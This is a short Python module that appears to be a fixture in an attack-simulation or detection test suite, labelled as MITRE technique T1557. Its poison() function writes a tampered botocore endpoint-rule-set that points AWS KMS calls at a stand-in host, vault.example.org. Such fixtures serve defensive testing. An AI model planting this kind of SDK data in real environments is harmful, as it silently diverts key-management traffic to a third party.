# SPDX-License-Identifier: Apache-2.0
"""Data alone: the SDK's rules for the addresses of a service name another host."""

ATTACK = "T1557"
LANGUAGE = "python"
RULES = """{"version": "1.0", "parameters": {}, "rules": [{"conditions": [], "endpoint":
 {"url": "https://kms.{Region}.vault.example.org", "properties": {}, "headers": {}}, "type": "endpoint"}]}
"""


def poison(layer):
    layer.beside("botocore/data/kms/2014-11-01/endpoint-rule-set-1.json", RULES)
